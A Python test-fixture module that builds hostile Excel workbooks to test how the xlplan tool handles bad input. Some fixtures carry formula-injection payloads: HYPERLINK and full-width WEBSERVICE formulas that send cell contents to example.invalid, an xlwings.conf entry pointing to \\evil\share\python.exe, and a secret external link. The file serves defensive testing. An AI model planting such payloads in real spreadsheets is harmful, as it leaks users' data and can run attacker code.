"""The hostile-file corpus of issue 13: one master per line of the issue, built by code.

Every case is a plain function ``case(path) -> path``: it takes a master (a fresh copy of
the template, or of a master that issued copies) at ``path``, changes one thing the way a
person, another program or an attacker would, and returns the path of the result (the
same file, or a renamed one: ``.xlsm``, a symbolic link, a name with a line break).
:data:`CASES` lists them by name with what a test needs to know about each; the engine
parity test can take the builders from there.

Nothing here asserts: see tests/hostile/test_corpus.py.
"""

from __future__ import annotations

import io
import os
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path

from openpyxl import load_workbook
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.table import TableColumn
from openpyxl.worksheet.worksheet import Worksheet

from tests.test_merge_common import addr, layout_of
from xlplan.core.layout import CHECK_SHEET, INPUT_SHEET, META_SHEET, SETTINGS_SHEET

Builder = Callable[[Path], Path]

HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&F6,"61%")'
WEBSERVICE_FW = '＝WEBSERVICE("http://example.invalid/?d="&ENCODEURL(B4))'
LONG = 40_000  # characters: beyond Excel's 32,767 per cell
ZWSP_ROWS = 10_000
FAR_CELL = "XFD1048576"


@dataclass(frozen=True)
class Case:
    """One hostile master. ``build`` makes it; the rest is what the tests check beside the
    general rules (see test_corpus.py):

    * ``exits``: command → exit status, where it is not the default (0; ``check`` and
      ``update`` 1 when the file has errors — give them here);
    * ``says``: words the one-line refusal (exit 2) must contain, e.g. the sheet and cell
      (or, by command, a dict of them);
    * ``codes``: finding codes ``check`` must report for it;
    * ``foreign``: sheets under one of xlplan's names that hold people's cells (never
      rewritten);
    * ``damaged``: the file cannot be opened at all (no cell comparison);
    * ``slow``: needs LibreOffice or builds a large file.
    """

    build: Builder
    exits: dict[str, int] = field(default_factory=dict)
    says: tuple[str, ...] | dict[str, tuple[str, ...]] = ()
    codes: tuple[str, ...] = ()
    foreign: tuple[str, ...] = ()
    damaged: bool = False
    slow: bool = False
    why: str = ""


# =========================================================================== helpers


def _edit(path: Path, change: Callable[[Workbook], None], *, rich: bool = True) -> Path:
    """Change the workbook with openpyxl and save it, as another tool would."""
    wb = load_workbook(path, rich_text=rich)
    change(wb)
    wb.save(path)
    return path


def _cell(wb: Workbook, row_id: str, key: str) -> tuple[Worksheet, str]:
    sheet = row_id.rsplit("-", 1)[0]
    ws = wb[INPUT_SHEET[sheet]]
    return ws, addr(ws, sheet, row_id, key)


def _text(wb: Workbook, row_id: str, key: str, text: str) -> None:
    """Type ``text`` as text (an apostrophe in Excel; a returned copy's string cell)."""
    ws, ref = _cell(wb, row_id, key)
    c = ws[ref]
    c._value = text
    c.data_type = "s"


def _formula(wb: Workbook, row_id: str, key: str, formula: str) -> None:
    ws, ref = _cell(wb, row_id, key)
    ws[ref].value = formula  # openpyxl stores a string starting with = as a formula
    assert ws[ref].data_type == "f"


def rezip(path: Path, change: Callable[[str, bytes], bytes | None], *,
          extra: dict[str, bytes] | None = None, stored: bool = False,
          dest: Path | None = None) -> Path:
    """Rewrite the zip member by member (None drops a member), in place or to ``dest``."""
    with zipfile.ZipFile(path) as zin:
        members = [(i.filename, zin.read(i)) for i in zin.infolist()]
    out_path = dest or path
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(out_path, "w", method) as zout:
        for name, data in members:
            out = change(name, data)
            if out is not None:
                zout.writestr(name, out)
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return out_path


def _sheet_part(path: Path, tab: str) -> str:
    from xlplan.ooxml import Package

    return Package.read(path).sheet_part(tab)


def _raw(path: Path, tab: str, ref: str, raw: str) -> Path:
    """A numeric cell holding ``raw`` as another program stored it (``1E999`` is infinity)."""
    from openpyxl.utils.cell import coordinate_to_tuple

    from xlplan.ooxml import Package

    sentinel = 987654321.125
    pkg = Package.read(path)
    pkg.set_cells(tab, {coordinate_to_tuple(ref): sentinel})
    pkg.write(path)
    part = pkg.sheet_part(tab)
    return rezip(path, lambda n, d: d.replace(b"987654321.125", raw.encode())
                  if n == part else d)


def _raw_number(path: Path, row_id: str, key: str, raw: str) -> Path:
    wb = load_workbook(path)
    ws, ref = _cell(wb, row_id, key)
    return _raw(path, ws.title, ref, raw)


def _macro_enabled(path: Path, *, content_type: bool = True) -> bytes:
    """The workbook with xlwings' real vbaProject.bin, as an .xlsm package (or, with
    ``content_type=False``, still typed as an .xlsx)."""
    from tests.ooxml.sources import macro_enabled

    data = macro_enabled(path.read_bytes())
    if content_type:
        return data
    src = io.BytesIO(data)
    out = io.BytesIO()
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for i in zin.infolist():
            body = zin.read(i)
            if i.filename == "[Content_Types].xml":
                body = body.replace(b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                                    b"application/vnd.openxmlformats-officedocument."
                                    b"spreadsheetml.sheet.main+xml")
            zout.writestr(i, body)
    return out.getvalue()


# =========================================================================== security


def hyperlink_text_value(path: Path) -> Path:
    """A value cell holding the *text* of a HYPERLINK formula that leaks a cell's content."""
    return _edit(path, lambda wb: _text(wb, "4-2-01", "projection", HYPERLINK))


def hyperlink_text_override(path: Path) -> Path:
    """The same text in the manual mark (copied into the shown mark and the report)."""
    def change(wb: Workbook) -> None:
        _text(wb, "4-2-03", "mark_override", '=HYPERLINK("http://example.invalid/","◎")')
        _text(wb, "4-2-03", "override_reason", "確認のため")
    return _edit(path, change)


def hyperlink_text_id(path: Path) -> Path:
    """The same text as an indicator's ID (copied into チェック結果 and the report)."""
    return _edit(path, lambda wb: _text(wb, "4-2-10", "id", '=HYPERLINK("http://x.invalid/","4-2-10")'))


def fullwidth_webservice(path: Path) -> Path:
    """Full-width ＝WEBSERVICE(…): NFKC folds ＝ to =, a formula if ever written back."""
    def change(wb: Workbook) -> None:
        _text(wb, "4-2-02", "projection", WEBSERVICE_FW)
        _text(wb, "4-2-02", "status_text", WEBSERVICE_FW)
        _text(wb, "4-1-02", "actual", "＋1000")
    return _edit(path, change)


def formulas_in_values(path: Path) -> Path:
    """Real formulas where values are typed (their cached results are not trusted)."""
    def change(wb: Workbook) -> None:
        _formula(wb, "4-2-04", "actual", "=1/0")
        _formula(wb, "4-2-05", "projection", '=WEBSERVICE("http://example.invalid/")')
        _formula(wb, "4-2-06", "baseline", "=SUM(1,2)")
    return _edit(path, change)


# =========================================================================== data loss


def memo_column_computed_heading(path: Path) -> Path:
    """A memo column right of the table, headed like a computed column (評価値)."""
    def change(wb: Workbook) -> None:
        ws = wb[INPUT_SHEET["4-2"]]
        lay = layout_of(ws, "4-2")
        col = ws.max_column + 2
        ws.cell(lay.header_row, col, "評価値")
        for r in range(lay.header_row + 1, lay.header_row + 49):
            ws.cell(r, col, f"メモ{r}")
    return _edit(path, change)


def duplicate_heading(path: Path) -> Path:
    """A column added inside the table with the heading of a value column."""
    def change(wb: Workbook) -> None:
        ws = wb[INPUT_SHEET["4-2"]]
        lay = layout_of(ws, "4-2")
        table = next(iter(ws.tables.values()))
        first, last = table.ref.split(":")
        col = ws.max_column + 1
        ws.cell(lay.header_row, col, "令和2年度末見込値")
        for r in range(lay.header_row + 1, lay.header_row + 10):
            ws.cell(r, col, f"メモ{r}")
        end_row = re.sub(r"[A-Z]+", "", last)
        from openpyxl.utils import get_column_letter

        table.ref = f"{first}:{get_column_letter(col)}{end_row}"
        table.autoFilter.ref = table.ref
        table.tableColumns.append(TableColumn(id=len(table.tableColumns) + 1,
                                              name="令和2年度末見込値2"))
        # Excel requires unique table column names; the cell shows the duplicate heading.
    return _edit(path, change)


def input_renamed_report(path: Path) -> Path:
    """4-2入力 renamed to 資料4-1 (the real 資料4-1 renamed away)."""
    def change(wb: Workbook) -> None:
        wb["資料4-1"].title = "資料4-1（旧）"
        wb[INPUT_SHEET["4-2"]].title = "資料4-1"
    return _edit(path, change)


def input_renamed_check(path: Path) -> Path:
    """4-2入力 renamed to チェック結果."""
    def change(wb: Workbook) -> None:
        if CHECK_SHEET in wb.sheetnames:
            del wb[CHECK_SHEET]
        wb[INPUT_SHEET["4-2"]].title = CHECK_SHEET
    return _edit(path, change)


def infinite_value(path: Path) -> Path:
    """1E999 typed in Excel: stored as a number that is infinity."""
    return _raw_number(path, "4-2-01", "projection", "1E999")


def nan_value(path: Path) -> Path:
    """A number that is not a number (another program's export)."""
    return _raw_number(path, "4-2-07", "actual", "NaN")


def xlsm_master(path: Path) -> Path:
    """The master saved as a macro-enabled workbook (.xlsm) with a real VBA project."""
    out = path.with_suffix(".xlsm")
    out.write_bytes(_macro_enabled(path))
    path.unlink()
    return out


def xlam_master(path: Path) -> Path:
    """The same, saved as an add-in (.xlam)."""
    data = _macro_enabled(path)
    out = path.with_suffix(".xlam")
    src = io.BytesIO(data)
    buf = io.BytesIO()
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zout:
        for i in zin.infolist():
            body = zin.read(i)
            if i.filename == "[Content_Types].xml":
                body = body.replace(b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                                    b"application/vnd.ms-excel.addin.macroEnabled.main+xml")
            zout.writestr(i, body)
    out.write_bytes(buf.getvalue())
    path.unlink()
    return out


def xlsm_renamed_xlsx(path: Path) -> Path:
    """A macro-enabled workbook renamed to .xlsx (Excel refuses to open it)."""
    path.write_bytes(_macro_enabled(path))
    return path


def vba_in_xlsx(path: Path) -> Path:
    """An .xlsx package (by content type too) that carries a VBA project part."""
    path.write_bytes(_macro_enabled(path, content_type=False))
    return path


# =========================================================================== paths, text


def symlink_master(path: Path) -> Path:
    """The master reached through a symbolic link (the real file elsewhere)."""
    real = path.parent / "real" / path.name
    real.parent.mkdir()
    path.rename(real)
    link = path.parent / f"link_{path.name}"
    os.symlink(real.resolve(), link)
    return link


def long_text(path: Path) -> Path:
    """A typed text longer than Excel's cell limit (another tool wrote it)."""
    return _edit(path, lambda wb: _text(wb, "4-2-08", "status_text", "長" * LONG))


def rich_text(path: Path) -> Path:
    """Partly bold, partly red text in a typed cell."""
    def change(wb: Workbook) -> None:
        ws, ref = _cell(wb, "4-2-09", "status_text")
        ws[ref].value = CellRichText(
            "進捗は", TextBlock(InlineFont(b=True), "順調"), "ですが、",
            TextBlock(InlineFont(color="FFFF0000"), "予算が不足"), "しています。")
    return _edit(path, change)


def newline_name(path: Path) -> Path:
    """A file name with a line break in it."""
    out = path.with_name("資料4\n改行.xlsx")
    path.rename(out)
    return out


def dash_name(path: Path) -> Path:
    """A file named like an option."""
    out = path.with_name("-o.xlsx")
    path.rename(out)
    return out


# =========================================================================== tracebacks


def bad_crc(path: Path) -> Path:
    """A zip member whose data no longer matches its CRC."""
    part = _sheet_part(path, INPUT_SHEET["4-2"])
    rezip(path, lambda n, d: d, stored=True)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(part)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    i = data.index(b"<c ", start)
    data[i + 1] = ord("d")  # one byte of the stored sheet XML
    path.write_bytes(bytes(data))
    return path


def missing_sheet_part(path: Path) -> Path:
    """A zip without one sheet's part (the workbook still lists the sheet)."""
    part = _sheet_part(path, INPUT_SHEET["4-3"])
    return rezip(path, lambda n, d: None if n == part else d)


def merged_computed(path: Path) -> Path:
    """A merged range over computed cells of two indicator rows."""
    def change(wb: Workbook) -> None:
        ws, ref = _cell(wb, "4-2-05", "evaluated")
        _ws2, ref2 = _cell(wb, "4-2-06", "evaluated")
        ws.merge_cells(f"{ref}:{ref2}")
    return _edit(path, change)


def merged_whole_row(path: Path) -> Path:
    """A whole indicator row merged into one cell."""
    def change(wb: Workbook) -> None:
        ws = wb[INPUT_SHEET["4-3"]]
        _ws2, ref = _cell(wb, "4-3-02", "id")
        r = int(re.sub(r"[A-Z]+", "", ref))
        from openpyxl.utils import get_column_letter

        ws.merge_cells(f"A{r}:{get_column_letter(ws.max_column)}{r}")
    return _edit(path, change)


def _chart_sheet(wb: Workbook, name: str) -> None:
    from openpyxl.chart import BarChart, Reference

    index = wb.sheetnames.index(name)
    del wb[name]
    cs = wb.create_chartsheet(name, index)
    chart = BarChart()
    data = wb[SETTINGS_SHEET if name != SETTINGS_SHEET else INPUT_SHEET["4-1"]]
    chart.add_data(Reference(data, min_col=2, min_row=3, max_row=5))
    cs.add_chart(chart)


def chart_sheet_input(path: Path) -> Path:
    """A chart sheet named 4-2入力 where the input sheet was."""
    return _edit(path, lambda wb: _chart_sheet(wb, INPUT_SHEET["4-2"]))


def chart_sheet_settings(path: Path) -> Path:
    """A chart sheet named 設定."""
    return _edit(path, lambda wb: _chart_sheet(wb, SETTINGS_SHEET))


def chart_sheet_meta(path: Path) -> Path:
    """A chart sheet named _xlplan."""
    return _edit(path, lambda wb: _chart_sheet(wb, META_SHEET))


def garbage_settings(path: Path) -> Path:
    """Unreadable 設定 values: infinity, a huge number, a negative year, text, an error."""
    def change(wb: Workbook) -> None:
        ws = wb[SETTINGS_SHEET]
        ws["B3"] = 9.9e300  # 報告年度
        ws["B5"] = -5  # 基準値の年度
        ws["B6"] = "らいねん"  # 中間目標の年度
        ws["B8"] = "#DIV/0!"  # ◎の基準
        ws["B9"] = 1e20  # ○の基準
        ws["B10"] = None  # the symbol for ◎
    _edit(path, change)
    return _raw(path, SETTINGS_SHEET, "B7", "1E999")  # 最終目標の年度


def far_cell(path: Path) -> Path:
    """One stray value in the sheet's very last cell (a Ctrl+End slip)."""
    return _edit(path, lambda wb: wb[INPUT_SHEET["4-2"]].__setitem__(FAR_CELL, "x"))


def computed_text_long(path: Path) -> Path:
    """A typed value within the cell limit whose computed text (判定の根拠 quotes it) is not."""
    return _edit(path, lambda wb: _text(wb, "4-3-01", "projection", ("順調に推移" * 6600)[:32_760]))


def merged_title_check(path: Path) -> Path:
    """A チェック結果 sheet (as check wrote it) whose title someone merged."""
    from xlplan.files import check_file

    check_file(path)
    return _edit(path, lambda wb: wb[CHECK_SHEET].merge_cells("A1:G1"))


def zero_width_rows(path: Path) -> Path:
    """10,000 rows holding only a zero-width space (pasted from a web page)."""
    def change(wb: Workbook) -> None:
        ws = wb[INPUT_SHEET["4-2"]]
        lay = layout_of(ws, "4-2")
        col = lay.cols["indicator"]
        start = ws.max_row + 1
        for r in range(start, start + ZWSP_ROWS):
            ws.cell(r, col, "\u200b")
    return _edit(path, change, rich=False)


def fullwidth_duplicate_id(path: Path) -> Path:
    """The full-width ID ４－２－０１ typed on another row."""
    return _edit(path, lambda wb: _text(wb, "4-2-12", "id", "４－２－０１"))


def percent_as_number(path: Path) -> Path:
    """50% typed where the column is formatted General: Excel stores 0.5 with 0%, and a
    date typed as 2021/3/31 becomes a date serial."""
    def change(wb: Workbook) -> None:
        ws, ref = _cell(wb, "4-2-01", "projection")
        ws[ref].value = 0.5
        ws[ref].number_format = "0%"
        ws2, ref2 = _cell(wb, "4-2-14", "actual")
        ws2[ref2].value = 0.25
        ws2[ref2].number_format = "0.0%"
        ws3, ref3 = _cell(wb, "4-2-16", "actual")
        ws3[ref3].value = datetime(2021, 3, 31)
        ws3[ref3].number_format = "yyyy/m/d"
    return _edit(path, change)


def percent_as_text(path: Path) -> Path:
    """The same as text (what the template's text-formatted columns keep)."""
    def change(wb: Workbook) -> None:
        _text(wb, "4-2-01", "projection", "50%")
        _text(wb, "4-2-14", "actual", "25.0%")
        _text(wb, "4-2-16", "actual", "2021/3/31")
    return _edit(path, change)


ALL = ("check", "recompute", "render", "update", "export", "split", "merge", "rollover")
WRITERS = ("recompute", "render", "update", "merge", "rollover")  # write the input sheets


def _refused(commands: tuple[str, ...], **also: int) -> dict[str, int]:
    return {**{c: 2 for c in commands}, **also}


CASES: dict[str, Case] = {
    # -- security: text that looks like a formula stays text; formulas are reported
    "hyperlink_text_value": Case(hyperlink_text_value, codes=("qualitative_change",)),
    "hyperlink_text_override": Case(hyperlink_text_override, codes=("override_mark",)),
    "hyperlink_text_id": Case(hyperlink_text_id),
    "fullwidth_webservice": Case(fullwidth_webservice, codes=("qualitative_change",)),
    "formulas_in_values": Case(formulas_in_values, codes=("formula_in_input",)),
    # -- data loss: columns and sheets that are not ours are never written
    "memo_column_computed_heading": Case(
        memo_column_computed_heading, _refused((*WRITERS, "split")), says=("4-2入力!AD3", "評価値"),
        codes=("heading_outside_table",)),
    "duplicate_heading": Case(
        duplicate_heading, _refused((*WRITERS, "split")), says=("4-2入力!AC3", "令和2年度末見込値"),
        codes=("heading_duplicate",)),
    "input_renamed_report": Case(
        input_renamed_report, _refused(("render", "update", "merge", "split", "rollover")),
        says={"render": ("資料4-1",), "update": ("資料4-1",), "merge": ("4-2入力",),
              "split": ("4-2入力",), "rollover": ("4-2入力",)}, codes=("sheet_not_ours", "sheet_missing"), foreign=("資料4-1",)),
    "input_renamed_check": Case(
        input_renamed_check, _refused(("update", "merge", "split", "rollover")),
        says={"update": (CHECK_SHEET,), "merge": ("4-2入力",), "split": ("4-2入力",),
              "rollover": ("4-2入力",)}, codes=("sheet_not_ours", "sheet_missing"), foreign=(CHECK_SHEET,)),
    "infinite_value": Case(infinite_value, _refused(("split", "rollover")),
                           says=("4-2入力!K4",), codes=("number_not_finite",)),
    "nan_value": Case(nan_value, _refused(("split", "rollover")), says=("4-2入力",),
                      codes=("number_not_finite",)),
    "xlsm_master": Case(xlsm_master),
    "xlam_master": Case(xlam_master),
    "xlsm_renamed_xlsx": Case(xlsm_renamed_xlsx, _refused(ALL), says=(".xlsm",)),
    "vba_in_xlsx": Case(vba_in_xlsx, _refused(ALL), says=("マクロ", ".xlsm")),
    # -- paths and text
    "symlink_master": Case(symlink_master),
    "long_text": Case(long_text, _refused(("split", "rollover"), check=1),
                      says=("4-2入力!N11",), codes=("text_too_long",)),
    "rich_text": Case(rich_text),
    "newline_name": Case(newline_name),
    "dash_name": Case(dash_name),
    # -- what used to end in a traceback
    "bad_crc": Case(bad_crc, _refused(ALL), says=("壊れて", "xl/worksheets/"), damaged=True),
    "missing_sheet_part": Case(missing_sheet_part, _refused(ALL), says=("4-3入力",),
                               damaged=True),
    "merged_computed": Case(merged_computed, _refused((*WRITERS, "split")), says=("4-2入力",),
                            codes=("merged_cells",)),
    "merged_whole_row": Case(merged_whole_row, _refused((*WRITERS, "split")), says=("4-3入力",),
                             codes=("merged_cells",)),
    "chart_sheet_input": Case(chart_sheet_input, _refused((*WRITERS, "split")),
                              says=("4-2入力",), codes=("sheet_not_grid",)),
    "chart_sheet_settings": Case(chart_sheet_settings, _refused((*WRITERS, "split")),
                                 says=("設定",), codes=("sheet_not_grid",)),
    "chart_sheet_meta": Case(chart_sheet_meta, _refused(ALL), says=(META_SHEET,)),
    "garbage_settings": Case(garbage_settings, codes=("settings_value_invalid",)),
    # -- hangs, idempotence, and the rest
    "far_cell": Case(far_cell, codes=("content_far_away",)),
    "computed_text_long": Case(computed_text_long),
    "merged_title_check": Case(merged_title_check),
    "zero_width_rows": Case(zero_width_rows, codes=("invisible_only",), slow=True),
    "fullwidth_duplicate_id": Case(
        fullwidth_duplicate_id, _refused(("merge", "split", "rollover")), says=("4-2-01",),
        codes=("duplicate_id",)),
    "percent_as_number": Case(percent_as_number),
    "percent_as_text": Case(percent_as_text),
}


# =========================================================================== returned copies
# The merge side: a returned copy (the 4-2 copy with the usual edits, harness.RETURN_EDITS)
# changed once more. Each builder takes the returned copy's path and returns the hostile one.


@dataclass(frozen=True)
class ReturnCase:
    """``taken``: (row ID, column key) → what the master holds afterwards, besides the
    usual edits (None: those are not taken either); ``codes``: findings merge reports."""

    build: Builder
    taken: dict[tuple[str, str], object] = field(default_factory=dict)
    codes: tuple[str, ...] = ()
    exit: int = 0
    usual: bool = True  # the usual edits are taken too


def _return_edit(path: Path, change: Callable[[Workbook], None]) -> Path:
    wb = load_workbook(path, rich_text=True)
    change(wb)
    wb.properties.lastModifiedBy = "担当 花子"
    wb.save(path)
    return path


def ret_fullwidth_webservice(path: Path) -> Path:
    return _return_edit(path, lambda wb: _text(wb, "4-2-22", "basis", WEBSERVICE_FW))


def ret_hyperlink_text(path: Path) -> Path:
    return _return_edit(path, lambda wb: _text(wb, "4-2-23", "status_text", HYPERLINK))


def ret_formula(path: Path) -> Path:
    def change(wb: Workbook) -> None:
        _formula(wb, "4-2-24", "actual", '=WEBSERVICE("http://example.invalid/")')
        _formula(wb, "4-2-25", "policy", "=A1&B1")
    return _return_edit(path, change)


def ret_long_text(path: Path) -> Path:
    return _return_edit(path, lambda wb: _text(wb, "4-2-26", "status_text", "長" * LONG))


def ret_infinite(path: Path) -> Path:
    return _raw_number(path, "4-2-27", "actual", "1E999")


def ret_percent_as_number(path: Path) -> Path:
    def change(wb: Workbook) -> None:
        ws, ref = _cell(wb, "4-2-28", "projection")
        ws[ref].value = 0.5
        ws[ref].number_format = "0%"
    return _return_edit(path, change)


def ret_xlsm(path: Path) -> Path:
    out = path.with_suffix(".xlsm")
    out.write_bytes(_macro_enabled(path))
    path.unlink()
    return out


def ret_hidden_and_conf_sheets(path: Path) -> Path:
    def change(wb: Workbook) -> None:
        memo = wb.create_sheet("メモ")
        memo["A1"] = "隠しデータ"
        memo.sheet_state = "hidden"
        conf = wb.create_sheet("xlwings.conf")
        conf["A1"], conf["B1"] = "Interpreter_Win", r"\\evil\share\python.exe"
    return _return_edit(path, change)


def ret_external_link(path: Path) -> Path:
    from openpyxl.packaging.relationship import Relationship
    from openpyxl.workbook.external_link.external import (
        ExternalBook,
        ExternalLink,
        ExternalSheetNames,
    )

    def change(wb: Workbook) -> None:
        link = ExternalLink(externalBook=ExternalBook(
            sheetNames=ExternalSheetNames(sheetName=["Sheet1"])))
        link.file_link = Relationship(Type="externalLinkPath",
                                      Target="file:///C:/secret/other.xlsx",
                                      TargetMode="External")
        wb._external_links.append(link)
        _formula(wb, "4-2-29", "actual", "='[1]Sheet1'!A1")
    return _return_edit(path, change)


def ret_truncated(path: Path) -> Path:
    path.write_bytes(path.read_bytes()[: len(path.read_bytes()) // 2])
    return path


def ret_bad_crc(path: Path) -> Path:
    return bad_crc(path)


RETURNS: dict[str, ReturnCase] = {
    "ret_fullwidth_webservice": ReturnCase(ret_fullwidth_webservice,
                                           {("4-2-22", "basis"): WEBSERVICE_FW}),
    "ret_hyperlink_text": ReturnCase(ret_hyperlink_text, {("4-2-23", "status_text"): HYPERLINK}),
    "ret_formula": ReturnCase(ret_formula, codes=("merge_formula",), exit=1),
    "ret_long_text": ReturnCase(ret_long_text, codes=("merge_text_too_long",), exit=1),
    "ret_infinite": ReturnCase(ret_infinite, codes=("merge_not_finite",), exit=1),
    "ret_percent_as_number": ReturnCase(ret_percent_as_number,
                                        {("4-2-28", "projection"): "50%"}),
    "ret_xlsm": ReturnCase(ret_xlsm, codes=("merge_macro",)),
    "ret_hidden_and_conf_sheets": ReturnCase(ret_hidden_and_conf_sheets,
                                             codes=("merge_conf_sheet", "merge_hidden_sheet")),
    "ret_external_link": ReturnCase(ret_external_link,
                                    codes=("merge_external_links", "merge_formula"), exit=1),
    "ret_truncated": ReturnCase(ret_truncated, codes=("corrupt",), exit=1, usual=False),
    "ret_bad_crc": ReturnCase(ret_bad_crc, codes=("corrupt",), exit=1, usual=False),
}
